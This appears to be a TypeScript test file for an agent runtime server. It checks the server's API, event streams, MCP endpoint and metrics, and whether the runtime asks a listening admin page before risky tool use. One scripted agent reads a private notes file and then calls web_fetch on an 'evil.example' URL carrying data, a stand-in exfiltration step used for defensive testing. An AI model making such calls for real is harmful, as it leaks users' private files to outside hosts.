import { writeFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { AccessTokens, installationToken } from "../../control/access/access-tokens.ts";
import type { Script } from "../../models/scripted/scripted-model.ts";
import { ofType, openEngine, testProfile } from "../../testing/engine-fixture.ts";
import { until } from "../../testing/until.ts";
import { serveRuntime } from "./serve-runtime.ts";
import { beginPage } from "./server.test-support.ts";

const initialize = {
  jsonrpc: "2.0",
  id: 1,
  method: "initialize",
  params: {
    protocolVersion: "2025-11-25",
    capabilities: {},
    clientInfo: { name: "test", version: "1" },
  },
};

describe("serveRuntime", () => {
  it("has the API, its streams, MCP and metrics at one address, and ends all of them", async () => {
    await using engine = await openEngine({ model: () => ({ text: "done" }) });
    const file = `${engine.home}/tokens`;
    const headers = { authorization: `Bearer ${installationToken(file)}` };
    const tokens = new AccessTokens(engine.store, file);
    const { workspace } = engine;
    const server = await serveRuntime({
      host: { runtime: engine, tokens, workspaces: [workspace], startedAt: Date.now() },
      port: 0,
    });
    const call = (path: string, request: RequestInit = {}) =>
      fetch(server.url + path, { ...request, headers: { ...headers, ...request.headers } });
    const json = { "content-type": "application/json" };

    const stream = await call("/api/v1/events?after=0");
    expect([stream.status, stream.headers.get("referrer-policy")]).toEqual([200, "no-referrer"]);
    const started = await call("/api/v1/runs", {
      method: "POST",
      headers: { ...json, "idempotency-key": "one" },
      body: JSON.stringify({ task: "Say something", profile: "general", wait: 10_000 }),
    });
    expect(started.status).toBeLessThan(300);
    const { runId } = (await started.json()) as { runId: string };
    const heard = await readUntil(stream, /run\.finished/);
    expect(heard).toContain(runId);
    const list = await call(`/api/v1/runs/${runId}/events`);
    expect(list.headers.get("content-type")).toBe("application/json");
    await list.body?.cancel();

    const mcp = await call("/mcp", {
      method: "POST",
      headers: { ...json, accept: "application/json, text/event-stream" },
      body: JSON.stringify(initialize),
    });
    expect([mcp.status, await mcp.text()]).toEqual([200, expect.stringContaining("serverInfo")]);
    const metrics = await (await call("/metrics")).text();
    expect(metrics).toMatch(/mandate_http_requests\S*route="startRun"\S* 1/);

    const ending = (await call("/api/v1/inbox/events")).text();
    await server.close(2000);
    await ending;
    await expect(call("/api/v1/health")).rejects.toThrow();
  });
});

describe("a page that listens to events", () => {
  const fetched: Script = ({ caller }) => {
    if (caller.turn > 2) return "done";
    const [read, visit] = [
      { tool: "read_file", input: { path: "notes.md" } },
      { tool: "web_fetch", input: { url: "https://evil.example/?d=x" } },
    ];
    return { calls: [caller.turn === 1 ? read : visit] };
  };

  it("attends for a person who may answer, until it is closed", async () => {
    const profiles = [testProfile("agent", { tools: ["read_file", "web_fetch"] })];
    await using engine = await openEngine({
      ...{ model: fetched, profiles, limits: { askDeadlineMs: 30 } },
    });
    const { workspace } = engine;
    writeFileSync(`${workspace}/notes.md`, "private");
    const file = `${engine.home}/tokens`;
    const own = installationToken(file);
    const tokens = new AccessTokens(engine.store, file);
    const server = await serveRuntime({
      host: { runtime: engine, tokens, workspaces: [workspace], startedAt: Date.now() },
      port: 0,
    });
    const admin = { id: "local", role: "admin" } as const;
    const { token: viewer } = await tokens.create({ name: "board", role: "viewer" }, admin);
    const questions = async () => {
      const { events } = await engine.run({ task: "go", profile: "agent", workspace });
      return ofType(events, "agent.asked").length;
    };
    const listen = async (headers: Record<string, string>) => {
      const control = new AbortController();
      const { signal } = control;
      const stream = await fetch(`${server.url}/api/v1/events`, { headers, signal });
      expect(stream.status).toBe(200);
      return control;
    };
    const pageOf = async (token: string) => {
      const session = await beginPage(server.pages, token);
      return listen({ cookie: `mandate-page-${server.port}=${session}`, origin: server.url });
    };
    await listen({ authorization: `Bearer ${own}` });
    await pageOf(viewer);
    expect(await questions()).toBe(0);
    const page = await pageOf(own);
    expect(await questions()).toBe(1);
    page.abort();
    await until("the page is gone", async () => (await questions()) === 0);
    await server.close(100);
  });
});

async function readUntil(stream: Response, pattern: RegExp): Promise<string> {
  const reader = stream.body?.pipeThrough(new TextDecoderStream()).getReader();
  let text = "";
  while (!pattern.test(text)) {
    const next = await reader?.read();
    if (next === undefined || next.done) throw new Error(`the stream ended after ${text}`);
    text += next.value;
  }
  await reader?.cancel();
  return text;
}
